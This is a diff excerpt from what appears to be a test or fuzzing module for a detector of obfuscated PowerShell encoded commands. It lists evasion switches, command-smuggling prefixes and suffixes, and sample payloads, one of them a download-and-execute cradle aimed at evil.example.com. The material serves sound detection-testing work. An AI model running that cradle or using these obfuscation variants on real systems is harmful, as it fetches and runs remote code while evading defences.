@@ -14,9 +14,9 @@ INDICATORS = [b"powershell", b"pwsh", b"powershell.exe", b"PowerShell", b"p^ower
 SWITCHES = [b"-nop", b"-NoP", b"/w", b"-sta", b"-noni", b"-NonI", b"/nologo", b"-ep", b"-w"]
 ENC_WORD = b"encodedcommand"
 SEPS = [b" ", b"\t", b"^ ", b"^\r\n", b"", b"  ", b" ^", b"\r\n"]
-PREFIXES = [b"", b"cmd /c ", b"x 'y ", b'"', b"for /f %i in ('", b";", b"& ", b"run; ", b"(", b"{", b"zz=",
+PREFIXES = [b"", b"cmd /c ", b"x 'y ", b"'", b'"', b"for /f %i in ('", b";", b"& ", b"run; ", b"(", b"{", b"zz=",
             b"cmd.exe /c \"", b"C:\\Windows\\System32\\cmd.exe /k ", b"a\\"]
-SUFFIXES = [b"", b"'", b'"', b"') do x", b" trailing", b")", b"\x00rest", b"\r\nnext line"]
+SUFFIXES = [b"", b"'", b'"', b"') do x", b" trailing", b")", b"\x00rest", b"\r\nnext line", b"' | foreach (", b'" | % {(', b"' ("]
 PAYLOADS = ["echo bee", "iex (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')", "a",
             "Write-Host 1.2.3.4", "\u4e2d\u6587\u4e2d\u6587\u4e2d\u6587", "calc.exe", ""]
 
